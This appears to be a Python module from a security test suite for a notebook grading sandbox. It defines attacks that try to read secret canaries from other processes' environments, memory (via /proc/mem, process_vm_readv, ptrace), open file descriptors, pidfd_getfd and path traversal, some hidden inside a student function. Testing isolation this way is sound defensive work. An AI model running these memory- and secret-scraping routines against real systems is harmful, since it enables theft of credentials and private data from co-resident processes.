"""Reading secrets that other processes hold: environments, memory, open files, kernels' keys."""

from nbformat.v4 import new_code_cell

from .attack import Attack, first, leaked, says
from .world import ENVIRONMENT

# Without a process namespace of its own the attack looks at the test's bystander and its own parents alone:
# what the machine's other processes hold is none of a test's business.
PROCESSES = """
def others():
    if inside():
        return [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [W["bystander"], os.getppid()]
def canaries(data):
    print(*set(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{16}", data)))
"""
ENVIRONMENTS = """
for pid in [*others(), "self", 1 if inside() else "self"]:
    try:
        canaries(open(f"/proc/{pid}/environ", "rb").read())
    except OSError:
        pass
"""
COMMAND_LINES = """
for pid in others():
    try:
        line = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if W["token"].encode() in line and pid != os.getpid():
        print("another", "process", "names", "the", "class")
"""
MEMORY = """
for pid in others():
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                if "rw-p" in line and "/" not in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    canaries(memory.read(min(end - start, 2**26)))
    except (OSError, ValueError, OverflowError):
        pass
"""
READV = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for pid in others():
    try:
        lines = [line for line in open(f"/proc/{pid}/maps") if "rw-p" in line and "/" not in line]
    except OSError:
        continue
    for line in lines:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        size = min(end - start, 2**24)
        room = ctypes.create_string_buffer(size)
        here, there = Vector(ctypes.addressof(room), size), Vector(start, size)
        got = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if got > 0 and pid != os.getpid():
            canaries(room.raw[:got])
"""
PTRACE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in others():
    if pid in (os.getpid(), os.getppid()) or pid == 1:
        continue
    if libc.ptrace(0x4206, pid, 0, 0) == 0:
        print("attached", "to a process")
        libc.ptrace(17, pid, 0, 0)
"""
DESCRIPTORS = """
for pid in others():
    try:
        numbers = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for number in numbers:
        try:
            if os.path.isfile(f"/proc/{pid}/fd/{number}") and (pid != os.getpid()):
                canaries(open(f"/proc/{pid}/fd/{number}", "rb").read(10**6))
        except OSError:
            pass
"""
OWN_DESCRIPTORS = """
import stat
for number in os.listdir("/proc/self/fd"):
    try:
        where = os.readlink(f"/proc/self/fd/{number}")
        if W["root"] in where or stat.S_ISDIR(os.fstat(int(number)).st_mode):
            print(where)
            canaries(open(os.open("class/private.txt", os.O_RDONLY, dir_fd=int(number)), "rb").read())
    except (OSError, ValueError):
        pass
for number in range(3, 200):
    try:
        os.fchdir(number)
        for up in ("..", "../..", "../../..", "../../../.."):
            canaries(open(up + W["class"] + "/private.txt", "rb").read())
    except OSError:
        pass
"""
ROOTS = """
for pid in others():
    for way in ("root", "cwd"):
        try:
            canaries(open(f"/proc/{pid}/{way}/" + "../" * 12 + W["class"] + "/private.txt", "rb").read())
        except OSError:
            pass
"""
PIDFD = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in others():
    if pid == os.getpid():
        continue
    try:
        handle = os.pidfd_open(pid)
    except OSError:
        continue
    for number in range(3, 64):
        taken = libc.syscall(438, handle, number, 0)
        if taken >= 0:
            try:
                if os.path.isfile(f"/proc/self/fd/{taken}"):
                    os.lseek(taken, 0, 0)
                    canaries(os.read(taken, 10**6))
            except OSError:
                pass
"""
OWN_ENVIRONMENT = "print(*(value for name, value in os.environ.items() if name == {name!r}))"
OWN_MEMORY = """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
    for line in maps:
        if "rw-p" in line and "/" not in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                memory.seek(start)
                canaries(memory.read(min(end - start, 2**28)))
            except (OSError, ValueError, OverflowError):
                pass
"""

# While a right helper is computed elsewhere for `double_sum`, somebody holds its code.
DURING_HELP = """
def double_sum(x):
    sums = np.sum(double(x)), x
    if double is not wrong:
        for look in looks:
            exec(look, globals())
    return sums
wrong = double
"""


def _during_help(released, world):
    code = f"looks = {[ENVIRONMENTS, MEMORY, DESCRIPTORS, ROOTS, OWN_MEMORY]!r}\n"
    told = (
        "kept = []\ndef canaries(data):\n    kept.extend(re.findall(rb'CANARY-[a-z]+-[0-9a-f]{16}', data))\n"
    )
    notebook = first("during-help", PROCESSES + told + code, double_sum=DURING_HELP)(released, world)
    notebook.cells.insert(-4, new_code_cell("print(set(kept))", id="tell"))
    return notebook


def _looks(name: str, code: str, *kinds: str, aim=None) -> Attack:
    secrets = kinds or ("environment", "process", "memory", "descriptor", "class")
    return Attack(
        name, "reading secrets", first(name, PROCESSES + code), aim or leaked(*secrets), "plain"
    )  # fmt: skip


ATTACKS = [
    _looks("own-environment", OWN_ENVIRONMENT.format(name=ENVIRONMENT), "environment"),
    _looks("own-memory", OWN_MEMORY, "environment", "solution", "questions"),
    _looks("environments", ENVIRONMENTS),
    _looks("command-lines", COMMAND_LINES, aim=says("another process names the class")),
    _looks("memory-of-others", MEMORY),
    _looks("process-vm-readv", READV),
    _looks("ptrace", PTRACE, aim=says("attached to a process")),
    _looks("open-files-of-others", DESCRIPTORS),
    Attack(
        "inherited-descriptors",
        "reading secrets",
        first("inherited-descriptors", PROCESSES + OWN_DESCRIPTORS),
        leaked("environment", "process", "memory", "descriptor", "class"),
        None,
        "jupyter_client closes its descriptors: only a grader that hands some on could fail here",
    ),
    _looks("roots-of-others", ROOTS),
    _looks("pidfd-getfd", PIDFD),
    Attack(
        "during-help",
        "reading secrets",
        _during_help,
        leaked("environment", "process", "memory", "solution", "questions"),
        "stock",
        earned=None,
    ),
]
